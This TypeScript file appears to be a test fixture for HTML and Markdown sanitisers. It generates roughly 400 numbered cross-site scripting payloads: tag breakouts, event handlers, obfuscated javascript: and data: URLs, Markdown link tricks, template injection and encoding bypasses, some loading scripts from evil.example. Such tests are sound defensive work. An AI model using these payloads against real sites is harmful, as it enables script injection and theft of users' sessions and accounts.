import { hostileStrings } from './hostile-strings.ts'

/** What each string would do, were it to run: leave its number in the window. */
const js = (number: number) => `top.pwned=${number}`

const vectors = [
  '<script>JS</script>',
  '<img src=x onerror=JS>',
  '<svg onload=JS>',
  '<svg/onload=JS//',
  '<iframe srcdoc="<script>JS</script>"></iframe>',
  '<iframe src="javascript:JS"></iframe>',
  '<details open ontoggle=JS>x</details>',
  '<input autofocus onfocus=JS>',
  '<video><source onerror=JS></video>',
  '<body onload=JS>',
  '<a href="javascript:JS">x</a>',
  '<object data="javascript:JS"></object>',
  '<style onload=JS></style>',
  '<script src=//evil.example/NR></script>',
  '<link rel=stylesheet href=//evil.example/NR>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=JS>',
]

/** Out of where a text may stand: an attribute, a field, a title, a script, a comment, a list. */
const before = [
  '',
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</select>',
  '</p>',
]

const attributes = [
  'onmouseover=JS',
  'onfocus=JS autofocus',
  'onclick=JS',
  'style=animation:x onanimationstart=JS',
  'formaction=javascript:JS',
]
const quotes = ['"', "'", '`', '" ', '"/', '&quot;', '&#34;', '\\"']

/** What an address could be instead of one. */
const addresses = [
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  '\tjavascript:JS',
  'java\tscript:JS',
  'java\nscript:JS',
  'javascript\n:JS',
  '\u0001javascript:JS',
  '\u00a0javascript:JS',
  'javascript://x.example/%0aJS',
  'javascript&colon;JS',
  'jav&#x09;ascript:JS',
  '&#106;avascript:JS',
  'view-source:javascript:JS',
  'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==#NR',
  'data:image/svg+xml,<svg onload=JS>',
  'vbscript:JS',
  'blob:JS',
  'feed:javascript:JS',
  'https://x.example/"onmouseover=JS x="',
  "https://x.example/'onmouseover=JS x='",
  'https://x.example/><script>JS</script>',
  'https://x.example/?a=</script><script>JS</script>',
  '//evil.example/NR',
  '\\\\evil.example/NR',
]

const written = [
  '[x](javascript:JS)',
  '[x](JaVaScRiPt:JS)',
  '[x](java&#x09;script:JS)',
  '[x](<javascript:JS>)',
  '[x](data:text/html,<script>JS</script>)',
  '[x](https://x.example/"onmouseover=JS)',
  '[x](https://x.example "onmouseover=JS")',
  "[x](https://x.example '\"><script>JS</script>')",
  '![x](x"onerror=JS)',
  '![x](//evil.example/NR.png)',
  '![" onerror=JS x="](x)',
  '<javascript:JS>',
  '<https://x.example/"onmouseover=JS>',
  '[x][NR]\n\n[NR]: javascript:JS',
  '`<script>JS</script>`',
  '```html\n<script>JS</script>\n```',
  '&lt;script&gt;JS&lt;/script&gt;',
  '&#60;img src=x onerror=JS&#62;',
  '\\<script>JS\\</script>',
  '> <img src=x onerror=JS>',
  '* <svg onload=JS>',
  '# <script>JS</script>',
  '[^NR]: <script>JS</script>',
  '{.general onclick=JS}',
  '{#"onclick=JS}',
  '[x](case:"onclick=JS)',
]

const others = [
  '{{{JS}}}',
  '{{constructor.constructor("JS")()}}',
  '\u0024{JS}',
  '<%= JS %>',
  '";JS;//',
  "';JS;//",
  '\\u003cscript\\u003eJS\\u003c/script\\u003e',
  '\\x3cscript\\x3eJS\\x3c/script\\x3e',
  '%3Cscript%3EJS%3C/script%3E',
  '%253Cscript%253EJS%253C/script%253E',
  '+ADw-script+AD4-JS+ADw-/script+AD4-',
  '＜script＞JS＜/script＞',
  '\u2028JS\u2028',
  '<!--<script>JS</script>',
  '<![CDATA[<script>JS</script>]]>',
  '<?xml-stylesheet href="javascript:JS"?>',
  '<scr<script>ipt>JS</scr</script>ipt>',
  '<ſcript>JS</ſcript>',
  '</content></entry><script xmlns="http://www.w3.org/1999/xhtml">JS</script>',
  '","url":"javascript:JS"}</script><script>JS</script>',
  '=HYPERLINK("javascript:JS")',
]

const numbered = (pattern: string, number: number) => pattern.replaceAll('JS', js(number)).replaceAll('NR', `${number}`)

const patterns = [
  ...before.flatMap((out) => vectors.map((vector) => out + vector)),
  ...quotes.flatMap((quote) => attributes.map((attribute) => `${quote} ${attribute} x=${quote}`)),
  ...addresses,
  ...written,
  ...others,
  ...hostileStrings.filter((text) => text.includes('alert(1)')).map((text) => text.replaceAll('alert(1)', 'JS')),
]

/** Some 400, each with a number of its own by which it is known again. */
export const scripts = patterns.map(numbered)

/** All of them, each on a line of its own. */
export const allScripts = scripts.join('\n\n')

/** Those that pretend to be addresses, or hide in one. */
export const scriptAddresses = scripts.filter((text) => /^\W*(?:\w+:|\/\/|\\\\)/.test(text) && !/^\W*[<`[]/.test(text))
